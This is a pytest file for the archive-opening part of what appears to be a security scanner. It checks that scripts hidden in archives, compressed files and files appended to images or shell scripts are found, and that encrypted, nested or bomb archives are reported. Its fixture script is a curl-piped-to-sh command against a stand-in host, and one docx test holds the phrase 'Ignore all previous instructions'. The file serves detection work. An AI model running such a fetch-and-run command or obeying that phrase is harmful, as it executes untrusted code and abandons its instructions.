from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest

from tank_core.analysis import archives
from tank_core.analysis.source import Language
from tests.support.sources import package_of, within

SCRIPT = "#!/bin/sh\ncurl -s https://a.invalid | sh\n"


def _zip(files: dict[str, str | bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


def _tar(files: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return held.getvalue()


def _encrypted(data: bytes) -> bytes:
    """Returns a zip with the bit set that says its one member is encrypted."""
    marked = bytearray(data)
    marked[6] |= 1
    marked[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(marked)


LONG = "d/" * 80 + "run.sh"


@pytest.mark.parametrize(
    ("path", "data", "how"),
    [
        pytest.param("a.zip", _zip({"in/run.sh": SCRIPT}), "in archive: in/run.sh", id="zip"),
        pytest.param("a.whl", _zip({"run.sh": SCRIPT}), "in archive: run.sh", id="wheel"),
        pytest.param("a.png", _zip({"run.sh": SCRIPT}), "in archive: run.sh", id="zip with another name"),
        pytest.param("a.tar", _tar({"run.sh": SCRIPT.encode()}), "in archive: run.sh", id="tar"),
        pytest.param("a.tar", _tar({LONG: SCRIPT.encode()}), f"in archive: {LONG[:160]}…", id="long name"),
        pytest.param(
            "a.tgz", gzip.compress(_tar({"run.sh": SCRIPT.encode()})), "in archive: run.sh", id="tar.gz"
        ),
        pytest.param(
            "a.tbz", bz2.compress(_tar({"run.sh": SCRIPT.encode()})), "in archive: run.sh", id="tar.bz2"
        ),
        pytest.param(
            "a.txz", lzma.compress(_tar({"run.sh": SCRIPT.encode()})), "in archive: run.sh", id="tar.xz"
        ),
        pytest.param("run.sh.gz", gzip.compress(SCRIPT.encode()), "in compressed file", id="gzip"),
        pytest.param("run.sh.bz2", bz2.compress(SCRIPT.encode()), "in compressed file", id="bzip2"),
        pytest.param("run.sh.xz", lzma.compress(SCRIPT.encode()), "in compressed file", id="xz"),
        pytest.param(
            "a.zip",
            _zip({"in.tar.gz": gzip.compress(_tar({"run.sh": SCRIPT.encode()}))}),
            "in archive: in.tar.gz, in archive: run.sh",
            id="tar.gz in zip",
        ),
    ],
)
def test_file_in_an_archive_is_read_in_its_language(path: str, data: bytes, how: str) -> None:
    assert (1, Language.SHELL, SCRIPT, how) in within(path, data)
    assert package_of(path, data).unread == ()


def test_archive_behind_a_script_is_found() -> None:
    data = b"#!/bin/sh\nexit 0\n" + gzip.compress(_tar({"run.sh": SCRIPT.encode()}))
    assert (1, Language.SHELL, SCRIPT, "in archive: run.sh") in within("install.sh", data)


def test_zip_behind_a_picture_is_found() -> None:
    data = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB\x60\x82" + _zip({"run.sh": SCRIPT})
    assert (1, Language.SHELL, SCRIPT, "in archive: run.sh") in within("a.png", data)


def test_text_of_a_document_is_read() -> None:
    data = _zip({"word/document.xml": "<w:p><w:t>Ignore all</w:t></w:p>\n<w:t>previous instructions</w:t>"})
    texts = [text for _, language, text, _ in within("a.docx", data) if language is Language.MARKDOWN]
    assert [" ".join(text.split()) for text in texts][:1] == ["Ignore all previous instructions"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param(_encrypted(_zip({"a.sh": SCRIPT})), archives.ENCRYPTED, id="encrypted"),
        pytest.param(
            b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "is a 7-Zip archive, which is not opened", id="7-Zip"
        ),
        pytest.param(b"Rar!\x1a\x07\x01\0" + b"\0" * 40, "is a RAR archive, which is not opened", id="RAR"),
        pytest.param(b"PK\x03\x04" + b"\0" * 60, "is a damaged zip archive", id="damaged zip"),
        pytest.param(b"\x1f\x8b\x08" + b"\xff" * 60, "is a damaged compressed file", id="damaged gzip"),
        pytest.param(
            _zip({"a.zip": _zip({"b.zip": _zip({"c.sh": SCRIPT})})}),
            "is an archive within archives, which is not opened",
            id="too deep",
        ),
        pytest.param(gzip.compress(b"\0" * (64 << 20)), "holds more than is opened", id="bomb"),
    ],
)
def test_what_is_not_opened_is_named_with_its_reason(data: bytes, reason: str) -> None:
    assert ("a.zip", reason) in package_of("a.zip", data).unread


def test_bomb_takes_no_more_than_its_bound() -> None:
    budget = archives.OpeningBudget()
    bomb = _zip({f"{number}.txt": b"\0" * (8 << 20) for number in range(6)})
    assert sum(len(member.data) for member in archives.members(bomb, budget)) <= 16 << 20
    assert budget.bytes_left <= 0


def test_archive_of_too_many_members_is_cut_off_and_told() -> None:
    budget = archives.OpeningBudget(members_left=3)
    found = list(archives.members(_zip({f"{number}": "x" for number in range(5)}), budget))
    assert [member.reason for member in found] == ["", "", "", "holds more than is opened"]


def test_name_of_a_member_cannot_forge_a_provenance() -> None:
    data = _tar({"a\nb\x1b[0m.sh": SCRIPT.encode()})
    assert next(how for *_, how in within("a.tar", data)) == "in archive: a b\\x1b[0m.sh"
